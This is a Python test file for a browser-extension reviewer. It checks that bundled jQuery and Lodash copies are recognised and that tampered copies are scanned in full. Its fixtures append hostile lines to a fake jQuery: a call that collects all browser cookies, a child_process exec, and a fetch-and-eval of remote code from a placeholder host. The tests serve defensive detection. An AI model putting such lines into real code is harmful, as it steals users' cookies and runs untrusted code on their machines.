"""Copies of libraries that a plugin carries."""

from __future__ import annotations

import json

import reviewer
from reviewer.subject.libraries import library_copy

JQUERY = b"""/*!
 * jQuery JavaScript Library v3.5.1
 * https://jquery.com/
 */
( function( global, factory ) { factory( global ); } )( window, function( window ) {
var jQuery = function( selector ) { return new jQuery.fn.init( selector ); };
jQuery.expando = "jQuery" + Math.random();
jQuery.readyException = function( error ) { window.setTimeout( function() { throw error; } ); };
"""
BODY = b"jQuery.fn.each = function( callback ) { return jQuery.each( this, callback ); };\n" * 120
END = b"} );\n"


def test_a_library_with_its_banner_and_its_own_names_is_a_copy():
    assert library_copy(JQUERY + BODY + END) == "a copy of jQuery 3.5.1, as its first lines say"


def test_a_banner_over_other_code_is_no_copy():
    assert library_copy(JQUERY.partition(b"( function")[0] + b"run(input);\n" * 1000) == ""


def test_a_library_that_speaks_to_the_browser_is_no_copy():
    assert library_copy(JQUERY + BODY + b"chrome.cookies.getAll({}, send);\n" + END) == ""


def test_a_library_that_starts_programs_is_no_copy():
    assert library_copy(JQUERY + BODY + b"require('child_process').exec(input);\n" + END) == ""


def test_a_library_that_is_itself_reviewed_is_no_copy():
    assert library_copy(JQUERY + BODY + END, own="jquery") == ""


def test_a_banner_further_down_or_a_short_file_says_nothing():
    assert library_copy(b"start();\n" + JQUERY + BODY + END) == ""
    assert library_copy(JQUERY + END) == ""


def test_lodash_is_not_taken_for_the_library_that_it_is_based_on():
    lodash = (
        b"/**\n * @license\n * Lodash <https://lodash.com/>\n"
        b" * Based on Underscore.js 1.8.3 <http://underscorejs.org/LICENSE>\n */\n"
        b"function baseClone(value) { return value; }\nlodash.template = _.template; _.throttle = mixin;\n"
    )
    assert library_copy(lodash + b"lodash.clone = baseClone;\n" * 400) == "a copy of Lodash, as its first lines say"


def _review(folder, code):
    manifest = {"manifest_version": 3, "name": "Copies", "version": "1.0", "content_scripts": [
        {"matches": ["https://example.org/*"], "js": ["js/base.js"]}]}  # fmt: skip
    (folder / "manifest.json").write_text(json.dumps(manifest))
    (folder / "js").mkdir()
    (folder / "js" / "base.js").write_bytes(code)
    return reviewer.review(folder, strictness="auditor", no_cache=True).reviews[0]


def test_the_coverage_names_a_copy(tmp_path):
    review = _review(tmp_path, JQUERY + BODY + END)
    reasons = [one.reason for one in review.coverage.skipped if one.path == "js/base.js"]
    assert reasons == ["a copy of jQuery 3.5.1, as its first lines say; only names of calls and imports were looked at"]


def test_a_copy_into_which_somebody_wrote_is_looked_at_in_full(tmp_path):
    remote = b'fetch("https://x.example/a.js").then((r) => r.text()).then((t) => eval(t));\n'
    review = _review(tmp_path, JQUERY + BODY + remote + END)
    assert "js/base.js" not in {one.path for one in review.coverage.skipped}
    assert ("SEC050", "js/base.js") in {(finding.rule, finding.location.path) for finding in review.findings}
